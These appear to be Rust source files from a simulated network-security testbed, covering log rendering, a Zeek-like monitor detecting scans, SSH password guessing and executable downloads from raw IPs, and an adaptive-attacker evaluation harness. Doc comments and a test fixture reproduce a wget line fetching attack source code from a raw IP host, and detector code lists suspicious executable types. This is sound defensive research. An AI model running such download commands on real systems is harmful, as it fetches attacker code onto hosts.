            _ => unreachable!(),
        }
    }

    #[test]
    fn notice_kind_display_matches_zeek_convention() {
        assert_eq!(NoticeKind::AddressScan.to_string(), "Scan::Address_Scan");
        assert_eq!(
            NoticeKind::PasswordGuessing.to_string(),
            "SSH::Password_Guessing"
        );
        assert_eq!(
            NoticeKind::Custom("Ransomware_Lateral".into()).to_string(),
            "Site::Ransomware_Lateral"
        );
    }
}
