//! Log rendering and daily storage.
//!
//! Renders records into the textual formats the paper works with — Zeek
//! TSV rows, syslog lines, and the raw snippet format quoted in §II-A
//! (`23:15:22 [internal-host] wget 64.215.xxx.yyy/abs.c (200 "OK" [7036]`) —
//! and buckets records per day, which is the data behind Fig. 2's daily
//! alert series.

use std::fmt::Write as _;

use simnet::rng::FxHashMap;

use crate::record::{LogRecord, RecordKind};

/// Render a record as a single human-readable syslog-style line.
pub fn render_syslog(r: &LogRecord) -> String {
    let ts = r.ts();
    let mut line = String::with_capacity(96);
    let d = ts.date();
    let (h, m, s) = ts.time_of_day();
    let _ = write!(
        line,
        "{} {:2} {:02}:{:02}:{:02} ",
        d.month_abbrev(),
        d.day,
        h,
        m,
        s
    );
    match r {
        LogRecord::Conn(c) => {
            let _ = write!(
                line,
                "zeek conn: {}:{} -> {}:{} {} {} state={} bytes={}/{}",
                c.orig_h,
                c.orig_p,
                c.resp_h,
                c.resp_p,
                c.proto,
                c.service,
                c.conn_state,
                c.orig_bytes,
                c.resp_bytes
            );
        }
        LogRecord::Http(hh) => {
            let _ = write!(
                line,
                "zeek http: {} {} {}{} {} {}",
                hh.orig_h, hh.method, hh.host, hh.uri, hh.status, hh.mime
            );
        }
        LogRecord::Ssh(sr) => {
            let _ = write!(
                line,
                "zeek ssh: {} -> {} user={} method={:?} success={}",
                sr.orig_h, sr.resp_h, sr.user, sr.method, sr.success
            );
        }
        LogRecord::Notice(n) => {
            let _ = write!(line, "zeek notice: {} {} src={}", n.note, n.msg, n.src);
        }
        LogRecord::Process(p) => {
            let _ = write!(
                line,
                "{} osquery process: user={} pid={} {}",
                p.hostname, p.user, p.pid, p.cmdline
            );
        }
        LogRecord::File(fr) => {
            let _ = write!(
                line,
                "{} osquery file: user={} {:?} {} by {}",
                fr.hostname, fr.user, fr.op, fr.path, fr.process
            );
        }
        LogRecord::Auth(a) => {
            let outcome = if a.success { "Accepted" } else { "Failed" };
            let src = a
                .src_addr
                .map(|s| s.to_string())
                .unwrap_or_else(|| "-".into());
            let _ = write!(
                line,
                "{} sshd: {} {:?} for {} from {}",
                a.hostname, outcome, a.method, a.user, src
            );
        }
        LogRecord::Audit(au) => {
            let _ = write!(
                line,
                "{} auditd: user={} syscall={} args={} exit={}",
                au.hostname, au.user, au.syscall, au.args, au.exit_code
            );
        }
        LogRecord::Db(db) => {
            let _ = write!(
                line,
                "postgres audit: {} user={} statement={}",
                db.orig_h, db.user, db.statement
            );
        }
    }
    line
}

/// Render the paper's raw-snippet format for an HTTP download record:
/// `23:15:22 [internal-host] wget 64.215.xxx.yyy/abs.c (200 "OK" [7036]`.
pub fn render_snippet(r: &LogRecord, host_label: &str) -> String {
    let (h, m, s) = r.ts().time_of_day();
    match r {
        LogRecord::Http(hh) => format!(
            "{:02}:{:02}:{:02} [{}] wget {}{} ({} \"OK\" [{}]",
            h, m, s, host_label, hh.host, hh.uri, hh.status, hh.uid.0
        ),
        other => format!(
            "{:02}:{:02}:{:02} [{}] {}",
            h,
            m,
            s,
            host_label,
            render_syslog(other)
        ),
    }
}

/// Render a Zeek TSV header for a stream.
pub fn zeek_tsv_header(kind: RecordKind) -> String {
    let fields: &[&str] = match kind {
        RecordKind::Conn => &[
            "ts",
            "uid",
            "id.orig_h",
            "id.orig_p",
            "id.resp_h",
            "id.resp_p",
            "proto",
            "service",
            "duration",
            "orig_bytes",
            "resp_bytes",
            "conn_state",
        ],
        RecordKind::Http => &[
            "ts",
            "uid",
            "id.orig_h",
            "id.resp_h",
            "method",
            "host",
            "uri",
            "status_code",
            "resp_mime_types",
            "user_agent",
        ],
        RecordKind::Ssh => &[
            "ts",
            "uid",
            "id.orig_h",
            "id.resp_h",
            "user",
            "auth_method",
            "auth_success",
            "client",
        ],
        RecordKind::Notice => &["ts", "note", "msg", "src", "dst", "sub"],
        _ => &["ts", "host", "user", "detail"],
    };
    format!("#fields\t{}", fields.join("\t"))
}

/// Render a record as a Zeek TSV row (matching [`zeek_tsv_header`]).
pub fn zeek_tsv_row(r: &LogRecord) -> String {
    let ts_secs = r.ts().as_nanos() as f64 / 1e9;
    match r {
        LogRecord::Conn(c) => format!(
            "{:.6}\t{}\t{}\t{}\t{}\t{}\t{}\t{}\t{:.6}\t{}\t{}\t{}",
            ts_secs,
            c.uid,
            c.orig_h,
            c.orig_p,
            c.resp_h,
            c.resp_p,
            c.proto,
            c.service,
            c.duration.as_secs_f64(),
            c.orig_bytes,
            c.resp_bytes,
            c.conn_state
        ),
        LogRecord::Http(h) => format!(
            "{:.6}\t{}\t{}\t{}\t{}\t{}\t{}\t{}\t{}\t{}",
            ts_secs,
            h.uid,
            h.orig_h,
            h.resp_h,
            h.method,
            h.host,
            h.uri,
            h.status,
            h.mime,
            h.user_agent
        ),
        LogRecord::Ssh(s) => format!(
            "{:.6}\t{}\t{}\t{}\t{}\t{:?}\t{}\t{}",
            ts_secs, s.uid, s.orig_h, s.resp_h, s.user, s.method, s.success, s.client_banner
        ),
        LogRecord::Notice(n) => format!(
            "{:.6}\t{}\t{}\t{}\t{}\t{}",
            ts_secs,
            n.note,
            n.msg,
            n.src,
            n.dst.map(|d| d.to_string()).unwrap_or_else(|| "-".into()),
            n.sub
        ),
        other => format!(
            "{:.6}\t{}\t{}\t{}",
            ts_secs,
            other
                .host()
                .map(|h| h.to_string())
                .unwrap_or_else(|| "-".into()),
            other.user().unwrap_or("-"),
            render_syslog(other)
        ),
    }
}

/// Records bucketed by simulation day — the storage behind daily-volume
/// analyses (Fig. 2).
#[derive(Debug, Default)]
pub struct DailyLogStore {
    days: FxHashMap<u64, Vec<LogRecord>>,
}

impl DailyLogStore {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn push(&mut self, r: LogRecord) {
        self.days.entry(r.ts().day_index()).or_default().push(r);
    }

    pub fn extend(&mut self, rs: impl IntoIterator<Item = LogRecord>) {
        for r in rs {
            self.push(r);
        }
    }

    /// Number of records on a given day.
    pub fn day_count(&self, day_index: u64) -> usize {
        self.days.get(&day_index).map_or(0, Vec::len)
    }

    /// Records for a day, if any.
    pub fn day(&self, day_index: u64) -> Option<&[LogRecord]> {
        self.days.get(&day_index).map(Vec::as_slice)
    }

    /// `(day_index, count)` pairs sorted by day.
    pub fn daily_counts(&self) -> Vec<(u64, usize)> {
        let mut v: Vec<_> = self.days.iter().map(|(d, rs)| (*d, rs.len())).collect();
        v.sort_unstable();
        v
    }

    /// Total stored records.
    pub fn total(&self) -> usize {
        self.days.values().map(Vec::len).sum()
    }

    /// Earliest and latest day indices present.
    pub fn day_span(&self) -> Option<(u64, u64)> {
        let min = self.days.keys().min()?;
        let max = self.days.keys().max()?;
        Some((*min, *max))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::{HttpRecord, NoticeKind, NoticeRecord};
    use simnet::flow::FlowId;
    use simnet::time::SimTime;

    fn http_at(t: SimTime) -> LogRecord {
        LogRecord::Http(HttpRecord {
            ts: t,
            uid: FlowId(7036),
            orig_h: "141.142.2.5".parse().unwrap(),
            resp_h: "64.215.4.5".parse().unwrap(),
            method: "GET".into(),
            host: "64.215.4.5".into(),
            uri: "/abs.c".into(),
            status: 200,
            mime: "text/x-c".into(),
            user_agent: "Wget/1.21".into(),
        })
    }

    #[test]
    fn snippet_format_matches_paper_example() {
        let t = SimTime::from_datetime(2002, 6, 1, 23, 15, 22);
        let s = render_snippet(&http_at(t), "internal-host");
        assert_eq!(
            s,
            "23:15:22 [internal-host] wget 64.215.4.5/abs.c (200 \"OK\" [7036]"
        );
    }

    #[test]
    fn tsv_header_and_row_field_counts_match() {
        let t = SimTime::from_secs(100);
        let rec = http_at(t);
        let header = zeek_tsv_header(RecordKind::Http);
        let row = zeek_tsv_row(&rec);
        let n_header = header.trim_start_matches("#fields\t").split('\t').count();
        let n_row = row.split('\t').count();
        assert_eq!(n_header, n_row);
    }

    #[test]
    fn syslog_rendering_contains_key_fields() {
        let t = SimTime::from_datetime(2024, 10, 30, 3, 44, 0);
        let n = LogRecord::Notice(NoticeRecord {
            ts: t,
            note: NoticeKind::AddressScan,
            msg: "scanner".into(),
            src: "103.102.1.1".parse().unwrap(),
            dst: None,
            sub: simnet::intern::Sym::EMPTY,
        });
        let line = render_syslog(&n);
        assert!(line.contains("Scan::Address_Scan"));
        assert!(line.contains("103.102.1.1"));
        assert!(line.starts_with("Oct 30 03:44:00"));
    }

    #[test]
    fn daily_store_buckets_by_day() {
        let mut store = DailyLogStore::new();
        let d1 = SimTime::from_date(2024, 10, 1);
        let d2 = SimTime::from_date(2024, 10, 2);
        store.push(http_at(d1));
        store.push(http_at(d1 + simnet::time::SimDuration::from_hours(5)));
        store.push(http_at(d2));
        assert_eq!(store.day_count(d1.day_index()), 2);
        assert_eq!(store.day_count(d2.day_index()), 1);
        assert_eq!(store.total(), 3);
        let counts = store.daily_counts();
        assert_eq!(counts.len(), 2);
        assert_eq!(store.day_span(), Some((d1.day_index(), d2.day_index())));
        assert!(store.day(d1.day_index()).is_some());
        assert_eq!(store.day_count(12345), 0);
    }
}
