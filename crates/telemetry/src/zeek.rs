//! Zeek-like network security monitor.
//!
//! Produces `conn`, `http` and `ssh` records for every flow it taps, plus
//! `notice` records from stateful policies modeled after stock Zeek
//! policies: address scans, port scans, SSH password guessing, and
//! executable downloads from raw-IP hosts. NCSA runs "a cluster of Zeek
//! network security monitors" (§II-A); this monitor is the single-node
//! equivalent tapping the simulated border.

use std::net::Ipv4Addr;

use simnet::action::Action;
use simnet::engine::EventCtx;
use simnet::flow::Flow;
use simnet::intern::{Sym, SymScope};
use simnet::rng::{FxHashMap, FxHashSet};
use simnet::time::{SimDuration, SimTime};

use crate::monitor::Monitor;
use crate::record::{ConnRecord, HttpRecord, LogRecord, NoticeKind, NoticeRecord, SshRecord};

/// Tunables for the Zeek policies.
#[derive(Debug, Clone)]
pub struct ZeekConfig {
    /// Distinct destinations within the window before an address-scan
    /// notice fires (Zeek's default is 25).
    pub scan_threshold: usize,
    /// Distinct ports on one destination before a port-scan notice fires.
    pub port_scan_threshold: usize,
    /// Sliding window for scan detection.
    pub scan_window: SimDuration,
    /// Failed SSH auths within the window before a guessing notice.
    pub guess_threshold: usize,
    pub guess_window: SimDuration,
    /// Whether the tap also sees border-dropped flows. The production tap
    /// does not (null-routed traffic never reaches it); the BHR keeps its
    /// own counters.
    pub see_dropped: bool,
}

impl Default for ZeekConfig {
    fn default() -> Self {
        ZeekConfig {
            scan_threshold: 25,
            port_scan_threshold: 15,
            scan_window: SimDuration::from_mins(5),
            guess_threshold: 5,
            guess_window: SimDuration::from_mins(15),
            see_dropped: false,
        }
    }
}

/// Per-source scan tracking state.
#[derive(Debug, Default)]
struct ScanTrack {
    window_start: SimTime,
    dsts: FxHashSet<Ipv4Addr>,
    ports: FxHashSet<u16>,
    addr_noticed: bool,
    port_noticed: bool,
}

/// Per-source SSH failure tracking state.
#[derive(Debug, Default)]
struct GuessTrack {
    window_start: SimTime,
    failures: u32,
    noticed: bool,
}

/// The Zeek-like monitor.
///
/// Records are minted into the monitor's [`SymScope`] (global by default;
/// see [`ZeekMonitor::with_scope`] for tenant-scoped emission).
pub struct ZeekMonitor {
    cfg: ZeekConfig,
    scope: SymScope,
    scans: FxHashMap<Ipv4Addr, ScanTrack>,
    guesses: FxHashMap<Ipv4Addr, GuessTrack>,
    conn_count: u64,
    notice_count: u64,
}

impl ZeekMonitor {
    pub fn new(cfg: ZeekConfig) -> Self {
        Self::with_scope(cfg, SymScope::global())
    }

    /// A monitor minting record symbols into an explicit scope.
    pub fn with_scope(cfg: ZeekConfig, scope: SymScope) -> Self {
        ZeekMonitor {
            cfg,
            scope,
            scans: FxHashMap::default(),
            guesses: FxHashMap::default(),
            conn_count: 0,
            notice_count: 0,
        }
    }

    pub fn with_defaults() -> Self {
        Self::new(ZeekConfig::default())
    }

    /// Total `conn` records emitted.
    pub fn conn_count(&self) -> u64 {
        self.conn_count
    }

    /// Total `notice` records emitted.
    pub fn notice_count(&self) -> u64 {
        self.notice_count
    }

    fn conn_record(&mut self, ctx: &EventCtx<'_>, flow: &Flow) -> ConnRecord {
        self.conn_count += 1;
        ConnRecord {
            ts: flow.start,
            uid: flow.id,
            orig_h: flow.src,
            orig_p: flow.src_port,
            resp_h: flow.dst,
            resp_p: flow.dst_port,
            proto: flow.proto,
            service: flow.service,
            duration: flow.duration,
            orig_bytes: flow.orig_bytes,
            resp_bytes: flow.resp_bytes,
            conn_state: flow.state,
            direction: ctx.direction,
        }
    }

    fn track_scan(&mut self, t: SimTime, flow: &Flow, out: &mut Vec<LogRecord>) {
        if !flow.state.probe_like() {
            return;
        }
        let track = self.scans.entry(flow.src).or_default();
        if t.saturating_since(track.window_start) > self.cfg.scan_window {
            track.window_start = t;
            track.dsts.clear();
            track.ports.clear();
            track.addr_noticed = false;
            track.port_noticed = false;
        }
        track.dsts.insert(flow.dst);
        track.ports.insert(flow.dst_port);
        if !track.addr_noticed && track.dsts.len() >= self.cfg.scan_threshold {
            track.addr_noticed = true;
            self.notice_count += 1;
            out.push(LogRecord::Notice(NoticeRecord {
                ts: t,
                note: NoticeKind::AddressScan,
                msg: self.scope.sym(&format!(
                    "{} scanned at least {} unique hosts on port {}",
                    flow.src, self.cfg.scan_threshold, flow.dst_port
                )),
                src: flow.src,
                dst: None,
                sub: Sym::EMPTY,
            }));
        }
        if !track.port_noticed
            && track.ports.len() >= self.cfg.port_scan_threshold
            && track.dsts.len() <= 2
        {
            track.port_noticed = true;
            self.notice_count += 1;
            out.push(LogRecord::Notice(NoticeRecord {
                ts: t,
                note: NoticeKind::PortScan,
                msg: self.scope.sym(&format!(
                    "{} scanned at least {} unique ports of host {}",
                    flow.src, self.cfg.port_scan_threshold, flow.dst
                )),
                src: flow.src,
                dst: Some(flow.dst),
                sub: Sym::EMPTY,
            }));
        }
    }

    fn track_guess(&mut self, t: SimTime, src: Ipv4Addr, success: bool, out: &mut Vec<LogRecord>) {
        let track = self.guesses.entry(src).or_default();
        if t.saturating_since(track.window_start) > self.cfg.guess_window {
            track.window_start = t;
            track.failures = 0;
            track.noticed = false;
        }
        if success {
            return;
        }
        track.failures += 1;
        if !track.noticed && track.failures as usize >= self.cfg.guess_threshold {
            track.noticed = true;
            self.notice_count += 1;
            out.push(LogRecord::Notice(NoticeRecord {
                ts: t,
                note: NoticeKind::PasswordGuessing,
                msg: self
                    .scope
                    .sym(&format!("{} appears to be guessing SSH passwords", src)),
                src,
                dst: None,
                sub: self.scope.sym(&format!("{} failures", track.failures)),
            }));
        }
    }

    /// Whether an HTTP host header is a bare IPv4 address.
    fn is_raw_ip_host(host: &str) -> bool {
        host.split(':')
            .next()
            .is_some_and(|h| h.parse::<Ipv4Addr>().is_ok())
    }

    /// Whether the response looks like fetched code or a binary.
    fn fetches_executable(uri: &str, mime: &str) -> bool {
        matches!(
            mime,
            "application/x-executable" | "application/x-elf" | "text/x-c" | "text/x-shellscript"
        ) || [".sh", ".c", ".x86_64", ".elf", ".bin"]
            .iter()
            .any(|ext| uri.ends_with(ext))
    }
}

impl Monitor for ZeekMonitor {
    fn name(&self) -> &'static str {
        "zeek"
    }

    fn observe(&mut self, ctx: &EventCtx<'_>, action: &Action, out: &mut Vec<LogRecord>) {
        // The tap only sees flows the border actually carried.
        if !ctx.delivered() && !self.cfg.see_dropped {
            return;
        }
        match action {
            Action::Flow(flow) => {
                let rec = self.conn_record(ctx, flow);
                out.push(LogRecord::Conn(rec));
                self.track_scan(ctx.time, flow, out);
            }
            Action::Http(h) => {
                let rec = self.conn_record(ctx, &h.flow);
                out.push(LogRecord::Conn(rec));
                out.push(LogRecord::Http(HttpRecord {
                    ts: ctx.time,
                    uid: h.flow.id,
                    orig_h: h.flow.src,
                    resp_h: h.flow.dst,
                    method: self.scope.sym(h.method.as_str()),
                    host: self.scope.sym(h.host.as_str()),
                    uri: self.scope.sym(h.uri.as_str()),
                    status: h.status,
                    mime: self.scope.sym(h.mime.as_str()),
                    user_agent: self.scope.sym(h.user_agent.as_str()),
                }));
                if Self::is_raw_ip_host(&h.host) && Self::fetches_executable(&h.uri, &h.mime) {
                    self.notice_count += 1;
                    out.push(LogRecord::Notice(NoticeRecord {
                        ts: ctx.time,
                        note: NoticeKind::ExecutableFromRawIp,
                        msg: self.scope.sym(&format!(
                            "executable fetched from raw IP host {}{}",
                            h.host, h.uri
                        )),
                        src: h.flow.src,
                        dst: Some(h.flow.dst),
                        sub: self.scope.sym(h.mime.as_str()),
                    }));
                }
            }
            Action::SshAuth(s) => {
                let rec = self.conn_record(ctx, &s.flow);
                out.push(LogRecord::Conn(rec));
                out.push(LogRecord::Ssh(SshRecord {
                    ts: ctx.time,
                    uid: s.flow.id,
                    orig_h: s.flow.src,
                    resp_h: s.flow.dst,
                    user: self.scope.sym(s.user.as_str()),
                    method: s.method,
                    success: s.success,
                    client_banner: self.scope.sym(s.client_banner.as_str()),
                    direction: ctx.direction,
                }));
                self.track_guess(ctx.time, s.flow.src, s.success, out);
            }
            Action::Db(d) => {
                // Zeek sees the flow but does not parse the wire protocol;
                // statement-level audit comes from the host monitor.
                let rec = self.conn_record(ctx, &d.flow);
                out.push(LogRecord::Conn(rec));
            }
            Action::Exec(_) | Action::FileOp(_) | Action::Audit(_) => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use simnet::engine::EventCtx;
    use simnet::flow::{Direction, FlowId};
    use simnet::topology::{NcsaTopologyBuilder, Topology};

    fn ctx<'a>(topo: &'a Topology, t: SimTime) -> EventCtx<'a> {
        EventCtx {
            time: t,
            direction: Direction::Inbound,
            dropped: None,
            topo,
        }
    }

    fn probe_at(t: u64, src: &str, dst: &str, port: u16) -> Action {
        Action::Flow(Flow::probe(
            FlowId(t),
            SimTime::from_secs(t),
            src.parse().unwrap(),
            dst.parse().unwrap(),
            port,
        ))
    }

    #[test]
    fn address_scan_notice_fires_once_per_window() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut zeek = ZeekMonitor::with_defaults();
        let mut out = Vec::new();
        for i in 0..60u64 {
            let dst = format!("141.142.2.{}", i + 1);
            let a = probe_at(i, "103.102.1.1", &dst, 22);
            zeek.observe(&ctx(&topo, SimTime::from_secs(i)), &a, &mut out);
        }
        let notices: Vec<_> = out
            .iter()
            .filter(|r| matches!(r, LogRecord::Notice(n) if n.note == NoticeKind::AddressScan))
            .collect();
        assert_eq!(notices.len(), 1, "exactly one notice per window");
        assert_eq!(zeek.conn_count(), 60);
    }

    #[test]
    fn scan_window_resets() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut zeek = ZeekMonitor::with_defaults();
        let mut out = Vec::new();
        // 30 probes now, 30 probes an hour later: two notices.
        for wave in 0..2u64 {
            let base = wave * 3_600;
            for i in 0..30u64 {
                let dst = format!("141.142.2.{}", i + 1);
                let a = probe_at(base + i, "103.102.1.1", &dst, 22);
                zeek.observe(&ctx(&topo, SimTime::from_secs(base + i)), &a, &mut out);
            }
        }
        assert_eq!(zeek.notice_count(), 2);
    }

    #[test]
    fn port_scan_detected_on_single_host() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut zeek = ZeekMonitor::with_defaults();
        let mut out = Vec::new();
        for p in 0..20u16 {
            let a = probe_at(p as u64, "77.72.1.1", "141.142.11.1", 1_000 + p);
            zeek.observe(&ctx(&topo, SimTime::from_secs(p as u64)), &a, &mut out);
        }
        assert!(out
            .iter()
            .any(|r| matches!(r, LogRecord::Notice(n) if n.note == NoticeKind::PortScan)));
    }

    #[test]
    fn password_guessing_notice() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut zeek = ZeekMonitor::with_defaults();
        let mut out = Vec::new();
        for i in 0..6u64 {
            let a = Action::SshAuth(simnet::action::SshAuthAction {
                flow: Flow::established(
                    FlowId(i),
                    SimTime::from_secs(i),
                    SimDuration::from_secs(1),
                    "91.247.1.1".parse().unwrap(),
                    40_000,
                    "141.142.1.1".parse().unwrap(),
                    22,
                    500,
                    300,
                ),
                target: None,
                user: "root".into(),
                method: simnet::action::AuthMethod::Password,
                success: false,
                client_banner: "SSH-2.0-libssh".into(),
            });
            zeek.observe(&ctx(&topo, SimTime::from_secs(i)), &a, &mut out);
        }
        let guesses = out
            .iter()
            .filter(|r| matches!(r, LogRecord::Notice(n) if n.note == NoticeKind::PasswordGuessing))
            .count();
        assert_eq!(guesses, 1);
    }

    #[test]
    fn raw_ip_executable_download_notice() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut zeek = ZeekMonitor::with_defaults();
        let mut out = Vec::new();
        let a = Action::Http(simnet::action::HttpAction {
            flow: Flow::established(
                FlowId(1),
                SimTime::from_secs(1),
                SimDuration::from_secs(1),
                "141.142.2.5".parse().unwrap(),
                50_000,
                "64.215.4.5".parse().unwrap(),
                80,
                200,
                7_036,
            ),
            method: "GET".into(),
            host: "64.215.4.5".into(),
            uri: "/abs.c".into(),
            status: 200,
            mime: "text/x-c".into(),
            user_agent: "Wget/1.21".into(),
        });
        zeek.observe(&ctx(&topo, SimTime::from_secs(1)), &a, &mut out);
        assert!(out.iter().any(
            |r| matches!(r, LogRecord::Notice(n) if n.note == NoticeKind::ExecutableFromRawIp)
        ));
        // conn + http + notice
        assert_eq!(out.len(), 3);
    }

    #[test]
    fn dropped_flows_invisible_by_default() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut zeek = ZeekMonitor::with_defaults();
        let mut out = Vec::new();
        let reason = simnet::router::DropReason::NullRouted {
            reason: "test".into(),
        };
        let c = EventCtx {
            time: SimTime::from_secs(1),
            direction: Direction::Inbound,
            dropped: Some(&reason),
            topo: &topo,
        };
        zeek.observe(&c, &probe_at(1, "103.102.1.1", "141.142.2.1", 22), &mut out);
        assert!(out.is_empty());
    }
}
