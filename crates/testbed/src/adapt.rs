//! Closed-loop adaptive-attacker harnesses: the defense side of
//! [`scenario::adapt`].
//!
//! Three harnesses, all deterministic under the config seed:
//!
//! - [`worst_case_frontier`] — per attack family, drive an
//!   [`AdaptiveSearch`] hill-climb over [`MutationConfig`]: each probe
//!   generates one single-family campaign at the proposed config, runs it
//!   through the full pipeline, and scores the attacker by missed damage
//!   (with a lead-time tie-break). The converged per-family worst config +
//!   its preemption/lead-time is one [`FrontierPoint`] — the robustness
//!   frontier the paper's average-case `EvalReport` cannot see.
//! - [`learning_curve`] — replay one fixed campaign against models trained
//!   on increasing corpus sizes: the paper's learning story (training
//!   volume vs preemption) measured on the adversarial axis.
//! - [`run_reactive_campaign`] — the full detect→respond→adapt loop: a
//!   [`ReactiveGenerator`] feeds the inline pipeline in time-sliced
//!   rounds, a [`FeedbackTap`] carries every block decision back, and the
//!   attacker rotates/stretches/re-splits mid-stream. The emitted stream
//!   is recorded so the whole closed-loop run can be replayed through all
//!   three executors: the pipeline is a pure function of its record
//!   stream (the tap is a side channel), so the replay is byte-identical
//!   to the closed-loop run — determinism survives adaptivity.

use factorgraph::chain::ChainModel;
use scenario::adapt::{
    AdaptiveSearch, FeedbackTap, ReactiveGenerator, ReactivePolicy, ReactiveStats, SearchSpace,
};
use scenario::mutate::{Campaign, CampaignConfig, CampaignGroundTruth, MutationConfig};
use scenario::template::AttackTemplate;
use serde::Serialize;
use simnet::rng::SimRng;
use simnet::time::{SimDuration, SimTime};
use telemetry::record::LogRecord;

use crate::config::TestbedConfig;
use crate::eval::{evaluate_campaign, EvalReport};
use crate::stage::builder::PipelineBuilder;
use crate::stage::executor::InlineCore;
use crate::stage::StreamReport;

/// Shape of one [`worst_case_frontier`] search.
#[derive(Debug, Clone)]
pub struct FrontierConfig {
    /// Probes (campaign evaluations) per family; probe 0 is always the
    /// base config, so the baseline is part of every search.
    pub probes: usize,
    /// Sessions per probe campaign (single family, no background —
    /// preemption is the signal, FP accounting has its own benches).
    pub sessions: usize,
    /// Window the probe campaign's session starts spread over.
    pub horizon: SimDuration,
    /// Starting point of every per-family climb.
    pub base: MutationConfig,
    /// Bounds of the climb.
    pub space: SearchSpace,
}

impl Default for FrontierConfig {
    fn default() -> Self {
        FrontierConfig {
            probes: 12,
            sessions: 48,
            horizon: SimDuration::from_days(2),
            base: MutationConfig::default(),
            space: SearchSpace::default(),
        }
    }
}

/// One family's point on the worst-case robustness frontier: the worst
/// surviving [`MutationConfig`] the search found, and what the defense
/// still achieves there.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct FrontierPoint {
    pub family: String,
    /// The searched worst-case config.
    pub config: MutationConfig,
    /// Defense preemption rate at the worst config.
    pub preemption_rate: f64,
    /// Attacker's objective at the worst config: damage-dealing sessions
    /// not preempted, as a fraction of sessions.
    pub missed_damage_rate: f64,
    /// Median preemption lead time (s) at the worst config.
    pub lead_median_secs: f64,
    /// Preemption rate at the base (unsearched) config — the average-case
    /// number the frontier is measured against.
    pub baseline_preemption: f64,
    /// Probes evaluated.
    pub probes: usize,
    /// Probes that improved the attacker's objective.
    pub accepted: usize,
}

/// The attacker's objective for one probe: missed damage, with a small
/// lead-time tie-break (between configs missing equally much, prefer the
/// one leaving the defense less warning).
fn attacker_score(eval: &EvalReport) -> f64 {
    let missed = 1.0 - eval.overall.preemption_rate;
    missed + 1e-3 / (1.0 + eval.overall.lead.median_secs.max(0.0))
}

/// Hill-climb the mutation space per family and return the worst-case
/// frontier. Deterministic in `cfg.seed`: the campaign generator is
/// reseeded identically per probe (paired probes — score differences come
/// from the config, not sampling), and the search's own proposal stream is
/// seeded per family.
pub fn worst_case_frontier(
    cfg: &TestbedConfig,
    model: &ChainModel,
    families: &[AttackTemplate],
    fcfg: &FrontierConfig,
) -> Vec<FrontierPoint> {
    assert!(fcfg.probes >= 1, "need at least the baseline probe");
    let mut frontier = Vec::with_capacity(families.len());
    for family in families {
        let fam_seed = family.family.bytes().fold(cfg.seed, |acc, b| {
            acc.wrapping_mul(31).wrapping_add(b as u64)
        });
        let mut search = AdaptiveSearch::new(fcfg.base.clone(), fcfg.space.clone(), fam_seed);
        let mut worst = (0.0f64, 0.0f64); // (preemption, lead median) at the incumbent
        let mut baseline_preemption = 0.0f64;
        for probe in 0..fcfg.probes {
            let candidate = search.propose();
            let ccfg = CampaignConfig {
                sessions: fcfg.sessions,
                horizon: fcfg.horizon,
                families: vec![family.clone()],
                mutation: candidate,
                background: None,
                ..CampaignConfig::default()
            };
            let Campaign { records, truth } =
                scenario::mutate::generate_campaign(&ccfg, &mut SimRng::seed(fam_seed));
            let report = PipelineBuilder::from_config(cfg, model.clone())
                .build()
                .run_inline(records);
            let eval = evaluate_campaign(&report, &truth);
            if probe == 0 {
                baseline_preemption = eval.overall.preemption_rate;
            }
            let before = search.best_score();
            search.observe(attacker_score(&eval));
            if search.best_score() > before {
                worst = (eval.overall.preemption_rate, eval.overall.lead.median_secs);
            }
        }
        frontier.push(FrontierPoint {
            family: family.family.to_string(),
            config: search.best().clone(),
            preemption_rate: worst.0,
            missed_damage_rate: 1.0 - worst.0,
            lead_median_secs: worst.1,
            baseline_preemption,
            probes: search.probes(),
            accepted: search.accepted(),
        });
    }
    frontier
}

/// One point of the corpus learning curve.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct LearningPoint {
    /// Training-corpus size (incidents) the model was trained on.
    pub corpus_incidents: usize,
    /// Preemption rate against the fixed adversarial campaign.
    pub preemption_rate: f64,
    /// Detection rate (preempted + late) against the same campaign.
    pub detection_rate: f64,
}

/// Replay one fixed mutated campaign (generated once from `cfg.seed`)
/// against each `(corpus_size, model)` pair: training volume vs
/// preemption-under-mutation. Callers train the models (see `bench9`) —
/// this keeps the harness free of a training-pipeline dependency and the
/// sweep paired on an identical record stream.
pub fn learning_curve(
    cfg: &TestbedConfig,
    campaign_cfg: &CampaignConfig,
    models: &[(usize, ChainModel)],
) -> Vec<LearningPoint> {
    let Campaign { records, truth } =
        scenario::mutate::generate_campaign(campaign_cfg, &mut SimRng::seed(cfg.seed));
    models
        .iter()
        .map(|(corpus_incidents, model)| {
            let report = PipelineBuilder::from_config(cfg, model.clone())
                .build()
                .run_inline(records.clone());
            let eval = evaluate_campaign(&report, &truth);
            let sessions = eval.overall.sessions.max(1) as f64;
            LearningPoint {
                corpus_incidents: *corpus_incidents,
                preemption_rate: eval.overall.preemption_rate,
                detection_rate: eval.overall.detected as f64 / sessions,
            }
        })
        .collect()
}

/// Everything one closed-loop reactive campaign produces.
#[derive(Debug)]
pub struct ReactiveRun {
    /// The full emitted record stream, in pipeline ingestion order —
    /// replaying it through any executor reproduces `stream` exactly.
    pub records: Vec<LogRecord>,
    /// Ground truth as realized (rotated entities attributed, stretched
    /// tempos reflected in damage deadlines).
    pub truth: CampaignGroundTruth,
    pub stream: StreamReport,
    pub eval: EvalReport,
    /// Attacker-side accounting (rotations, re-splits, fresh entities).
    pub stats: ReactiveStats,
    /// Feedback rounds driven.
    pub rounds: u64,
}

/// Drive the full detect→respond→adapt loop: the generator emits one
/// `round` of records, the inline pipeline processes them, the attacker
/// observes the round's block decisions through the [`FeedbackTap`] and
/// reacts. `policy: None` runs the identical harness open-loop (feedback
/// discarded) — the paired baseline for reactive-vs-open-loop deltas.
///
/// Feedback is observed only at round boundaries, so the closed loop is
/// deterministic: the pipeline is a pure function of its record stream,
/// the block-decision stream is a pure function of the pipeline state,
/// and the attacker's reaction is a pure function of both plus its seeded
/// RNG. The recorded stream replayed through any executor is
/// byte-identical to this run.
